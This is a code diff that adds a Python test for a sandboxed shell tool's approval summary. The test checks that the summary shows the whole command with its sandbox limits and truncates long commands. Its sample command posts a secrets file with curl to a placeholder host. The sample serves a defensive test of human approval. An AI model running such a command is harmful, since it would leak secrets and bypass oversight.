@@ -178,3 +178,14 @@ def test_a_workspace_the_sandbox_cannot_write_is_refused(rig: Rig) -> None:
         assert "cannot write the workspace" in reason
     finally:
         os.chmod(rig.workspace, 0o755)
+
+
+def test_the_approval_summary_shows_the_whole_command() -> None:
+    text = shell.summary({"command": "curl -d @secrets.txt x", "timeout_ms": 500})
+    assert text == (
+        "run in the sandbox (workspace read-write, no network, at most 500 ms): "
+        "curl -d @secrets.txt x"
+    )
+    long = shell.summary({"command": "y" * 1000}, limit=10)
+    assert long.endswith("yyyyyyyyyy... (1000 chars)")
+    assert "non-empty" in shell.summary({"command": ""})
